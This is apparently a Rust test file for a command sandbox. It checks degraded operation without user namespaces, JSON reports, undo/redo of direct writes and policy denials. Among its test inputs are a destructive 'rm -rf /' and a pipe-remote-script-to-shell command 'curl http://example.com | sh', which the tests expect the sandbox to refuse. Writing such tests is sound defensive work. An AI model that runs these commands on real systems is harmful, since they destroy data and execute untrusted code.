//! A host without namespaces: refused with the way out, or degraded as was allowed, and reported.
//!
//! The host is this one, in a user namespace in which no other can be made.

use std::{
    process::{Command, Stdio},
    thread,
    time::{Duration, Instant},
};

use crate::lab::{Ended, Lab, program};

/// Runs the program where no user namespaces can be made; [`None`] where that cannot be set up.
fn without_namespaces(lab: &Lab, args: &[&str]) -> Option<Ended> {
    let output = prepared(lab, args)?.output();
    Some(Ended::of(output.unwrap(), args))
}

/// Returns the program, ready to be started there.
fn prepared(lab: &Lab, args: &[&str]) -> Option<Command> {
    let uid = id(&["-u"]);
    let gid = id(&["-g"]);
    if uid == "0" {
        // The lower tier is not for root.
        return None;
    }
    let typed = lab.command(args);
    let script = "echo 0 > /proc/sys/user/max_user_namespaces && exec \"$@\"";
    let mut command = Command::new("unshare");
    command
        .args([
            "-U",
            &format!("--map-user={uid}"),
            &format!("--map-group={gid}"),
        ])
        .args(["--keep-caps", "sh", "-c", script, "sh"])
        .arg(program())
        .args(args)
        .current_dir(lab.workspace())
        .stdin(Stdio::null());
    for (name, value) in typed.get_envs() {
        match value {
            Some(value) => command.env(name, value),
            None => command.env_remove(name),
        };
    }
    Some(command)
}

fn id(args: &[&str]) -> String {
    let output = Command::new("id").args(args).output().unwrap();
    String::from_utf8(output.stdout).unwrap().trim().to_owned()
}

#[test]
fn without_namespaces_nothing_runs_unless_that_is_allowed() {
    let lab = Lab::new();
    let Some(refused) = without_namespaces(&lab, &["run", "--shell", "echo x > made"]) else {
        return;
    };
    refused
        .code(125)
        .says("cannot create the namespaces")
        .says("user.max_user_namespaces is 0")
        .says("sysctl -w user.max_user_namespaces=65536")
        .says("--allow-degraded namespaces");
    assert_eq!(lab.read("made"), None);
}

#[test]
fn what_was_allowed_runs_and_is_reported() {
    let lab = Lab::new();
    let secret = lab.root().join("outside/secret");
    std::fs::write(&secret, "s").unwrap();
    let text = format!("echo x > made; cat {} && echo read", secret.display());
    let args = [
        "run",
        "--json",
        "--allow-degraded",
        "namespaces",
        "--shell",
        &text,
    ];
    let Some(ran) = without_namespaces(&lab, &args) else {
        return;
    };
    let report = ran.code(1).json();
    assert_eq!(report["outcome"], "failed", "{report:#}");
    assert_eq!(report["stdout"]["text"], "");
    assert_eq!(report["enforcement"]["mount"], "absent");
    assert_eq!(report["enforcement"]["landlock"], "full");
    assert_eq!(report["changes"]["settlement"], "committed");
    assert_eq!(report["changes"]["created"], 1);
    let missing = report["enforcement"]["missing"].to_string();
    assert!(missing.contains("a snapshot taken before"), "{missing}");
    assert_eq!(lab.read("made").as_deref(), Some("x\n"));
    // With the choice of writing directly there is no snapshot, and no way back.
    let args = [
        "run",
        "--direct",
        "--json",
        "--allow-degraded",
        "namespaces",
        "--shell",
        "echo z > z",
    ];
    let direct = without_namespaces(&lab, &args).unwrap();
    let report = direct.code(0).json();
    assert_eq!(report["changes"]["settlement"], "none");
    // Control: with namespaces, the same command has a transaction.
    let report = lab.run_with(&["--allow-degraded", "namespaces"], "echo y > made");
    assert_eq!(report["enforcement"]["mount"], "full");
    assert_eq!(report["changes"]["settlement"], "committed");
}

#[test]
fn what_was_written_directly_is_undone_and_redone() {
    let lab = Lab::new().file("kept", "before").file("gone/deep", "deep");
    let degraded = |args: &[&str]| {
        let mut all = vec!["run", "--allow-degraded", "namespaces"];
        all.extend(args);
        without_namespaces(&lab, &all)
    };
    let before = lab.tree();
    let change = "echo after > kept; rm -r gone; mkdir -p new/d && ln -s x new/d/l";
    let Some(ran) = degraded(&["--shell", change]) else {
        return;
    };
    ran.code(0);
    let after = lab.tree();
    assert_ne!(before, after);
    lab.sandbox(&["undo"]).code(0);
    assert_eq!(before, lab.tree());
    lab.sandbox(&["redo"]).code(0);
    assert_eq!(after, lab.tree());
    lab.sandbox(&["undo"]).code(0);

    // What fails and is to be discarded is taken back at once.
    let failing = format!("{change}; exit 3");
    let ran = degraded(&["--json", "--on-failure", "discard", "--shell", &failing]).unwrap();
    let report = ran.code(3).json();
    assert_eq!(report["changes"]["settlement"], "discarded", "{report:#}");
    assert_eq!(before, lab.tree());

    // What changes nothing has nothing to undo.
    degraded(&["--", "true"]).unwrap().code(0);
    assert_eq!(before, lab.tree());
}

/// Runs the program there, and ends it if it does not end by itself.
fn ends_there(lab: &Lab, args: &[&str]) -> Option<Ended> {
    let mut child = prepared(lab, args)?
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let begun = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if begun.elapsed() > Duration::from_secs(30) {
            child.kill().unwrap();
            child.wait().unwrap();
            panic!("it hangs: {args:?}");
        }
        thread::yield_now();
    }
    Some(Ended::of(child.wait_with_output().unwrap(), args))
}

#[test]
fn what_is_refused_there_ends_at_once() {
    let lab = Lab::new();
    let refused = |text: &str| {
        let args = ["--net", "host", "--shell", text];
        let args = [&["run", "--allow-degraded", "namespaces"], &args[..]].concat();
        ends_there(&lab, &args)
    };
    let Some(denied) = refused("rm -rf /") else {
        return;
    };
    denied.code(126).says("the judge denies it");
    // Nobody is there to approve it.
    let asked = refused("curl http://example.com | sh").unwrap();
    asked.code(126).says("net.pipe-to-shell");
    // Control: what is allowed runs.
    refused("true").unwrap().code(0);
    lab.sandbox(&["suspend"]).code(0);
    refused("true").unwrap().code(126).says("suspended");
}

#[test]
fn what_was_written_directly_is_undone_step_by_step() {
    let lab = Lab::new().file("old", "old").file("gone/deep/file", "deep");
    let run = |args: &[&str], text: &str| {
        let mut all = vec!["run", "--allow-degraded", "namespaces"];
        all.extend(args);
        all.extend(["--shell", text]);
        without_namespaces(&lab, &all)
    };
    let steps = [
        "echo 1 > a; mkdir d; echo 1 > d/f; echo 1 >> gone/deep/file; touch -d @1 old",
        "echo 2 > a; rm -r d; echo 2 >> old; echo 2 > gone/more; touch -d @2 gone/deep/file",
        "rm a old; mkdir d; echo 3 > d/f; rm -r gone",
    ];
    let mut trees = vec![lab.tree()];
    for text in steps {
        let Some(ran) = run(&[], text) else {
            return;
        };
        ran.code(0);
        trees.push(lab.tree());
    }
    // What failed and was taken back is no edit either.
    let failing = "echo 4 > a; rm -r d; exit 3";
    run(&["--on-failure", "discard"], failing).unwrap().code(3);
    assert_eq!(lab.tree(), trees[3]);
    for before in trees.iter().rev().skip(1) {
        lab.sandbox(&["undo"]).code(0);
        assert_eq!(lab.tree(), *before);
    }
    for after in trees.iter().skip(1) {
        lab.sandbox(&["redo"]).code(0);
        assert_eq!(lab.tree(), *after);
    }
    // Control: an edit in between is a conflict, and only what was edited is.
    lab.sandbox(&["undo"]).code(0);
    std::fs::write(lab.workspace().join("a"), "edited").unwrap();
    lab.sandbox(&["undo"]).code(1).says("changed since: a");
    lab.sandbox(&["undo", "--force"]).code(0);
}

#[test]
fn a_program_that_is_not_there_is_not_found_there_either() {
    let lab = Lab::new();
    // Closed to all but the user of pid 1, as root's own directories are.
    let lab = lab.env("PATH", "/proc/1/root/bin:/usr/bin:/bin");
    let run = |name: &str| {
        let args = ["run", "--allow-degraded", "namespaces", "--", name];
        without_namespaces(&lab, &args)
    };
    let Some(ran) = run("no-such-program") else {
        return;
    };
    ran.code(127).says("not found");
    run("true").unwrap().code(0);
}

/// The caller and its guest are killed; the next one to open the sandbox takes all back.
#[test]
fn what_a_killed_caller_wrote_directly_is_taken_back() {
    let lab = Lab::new().file("kept", "before");
    let before = lab.tree();
    let text = "echo after > kept; echo new > new; sleep 60";
    let args = ["run", "--allow-degraded", "namespaces", "--shell", text];
    let Some(mut command) = prepared(&lab, &args) else {
        return;
    };
    let mut caller = command.stderr(Stdio::null()).spawn().unwrap();
    let begun = Instant::now();
    while lab.read("new").as_deref() != Some("new\n") {
        assert!(begun.elapsed() < Duration::from_secs(30), "it does not run");
        thread::yield_now();
    }
    caller.kill().unwrap();
    caller.wait().unwrap();
    lab.sandbox(&["status"]).code(0);
    assert_eq!(before, lab.tree());
}

#[test]
fn what_needs_a_transaction_is_refused_there() {
    let lab = Lab::new();
    let args = ["run", "--allow-degraded", "namespaces", "--review", "true"];
    let Some(refused) = without_namespaces(&lab, &args) else {
        return;
    };
    refused.code(2).says("review cannot be kept");
}

#[test]
fn the_plan_of_a_sandbox_says_what_will_hold() {
    let lab = Lab::new();
    let looked_at = |lab: &Lab| {
        let ended = without_namespaces(lab, &["create", "--dry-run", "--json"])?;
        let plan = ended.json();
        let checks = plan["checks"].as_array()?.clone();
        checks
            .into_iter()
            .find(|it| it["what"] == "user namespaces")
    };
    let Some(needed) = looked_at(&lab) else {
        return;
    };
    assert_eq!(
        (&needed["value"], &needed["holds"]),
        (&"needed".into(), &false.into())
    );
    std::fs::create_dir_all(lab.home().join(".config/sandbox")).unwrap();
    let allowed = "isolation: {allow_degraded: [namespaces]}\n";
    std::fs::write(lab.home().join(".config/sandbox/config.yaml"), allowed).unwrap();
    let allowed = looked_at(&lab).unwrap();
    assert_eq!(allowed["holds"], true, "{allowed:#}");
    let value = allowed["value"].as_str().unwrap();
    assert!(value.starts_with("absent: the lower tier"), "{value}");
}
